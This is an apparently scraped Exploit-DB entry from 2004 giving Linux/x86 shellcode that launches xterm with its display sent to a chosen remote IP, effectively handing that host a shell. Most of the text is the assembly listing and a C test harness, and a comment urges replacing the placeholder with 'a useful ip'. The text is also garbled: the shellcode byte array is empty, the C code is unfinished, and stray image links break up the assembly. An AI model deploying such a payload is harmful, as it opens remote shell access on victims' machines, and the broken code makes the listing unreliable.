linux/x86 - xterm -ut -display IP:0 132 bytes

ID EDB-ID:13440
Type exploitdb
Reporter RaiSe
Modified 2004-09-26T00:00:00


linux/x86 xterm -ut -display [IP]:0 132 bytes. Shellcode exploit for lin_x86 platform

 *  Linux/x86
 *  execve() of /usr/X11R6/bin/xterm -ut -display ip:0, exit()
 * is an example, you must change it to a useful ip
 *  (making a subrutine into the exploit?)*  - you must not delete 'K' after ip:0 -
#include <stdio.h>

char shellcode[] =

main() {
        int *ret;
        ret=(int *)&ret+2;
        printf("Shellcode lenght=%d\n",strlen(shellcode));
        (*ret) = (int)shellcode;

/* Code */
jmp    0x4f
popl   %esi
xorl   %edx,%edxmovb   %dl,0x14(%esi)
movb   %dl,0x18(%esi)
movb   %dl,0x21(%esi)
movb   $0x2b,%dl
xorl   %ecx,%ecx
movb   $0x9,%cl
cmpb   $0x4b,(%edx,%esi)
je     0x5
inc    %edx
loop   -0x9
jmp    0x2b
movb   %dh,(%edx,%esi)xorl   %edx,%edx
movl   %esi,%ebx
movl   %esi,0x36(%esi)
leal   0x15(%esi),%edi
movl   %edi,0x3a(%esi)
leal   0x19(%esi),%edi
movl%edi,0x3e(%esi)
leal   0x22(%esi),%edi
movl   %edi,0x42(%esi)
movl   %edx,0x46(%esi)
leal   0x36(%esi),%ecx
leal   0x46(%esi),%edx
xorl   %eax,%eax
movb   $0xb,%eax
int    $0x80
xorl   %ebx,%ebx
movl   %ebx,%eax
inc    %eax
int$0x80
call   -0x54
.string\"/usr/X11R6/bin/xterm8-ut8-display8127.0.0.1:0K\"

RaiSe <>

// [2004-09-26]